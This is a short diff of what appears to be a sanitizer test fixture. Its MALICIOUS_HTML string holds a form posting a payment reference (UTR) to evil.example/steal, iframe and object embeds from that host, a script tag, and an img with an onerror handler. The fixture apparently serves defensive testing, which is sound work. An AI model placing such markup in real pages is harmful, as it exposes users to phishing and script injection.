@@ -13,4 +13,4 @@ export const MALICIOUS_HTML =
   `<p><a href="${ALLOWED_ORIGIN}/market-data">NSE market data</a> <a href="/market">Markets</a></p>` +
   '<form action="https://evil.example/steal"><input name="utr"><button>Send UTR</button></form>' +
   '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>' +
-  '<script>alert(1)</script><img src="https://example.com/x.png" onerror="alert(1)">';
+  '<script>alert(1)</script><img src="/favicon.svg" alt="" onerror="alert(1)">';
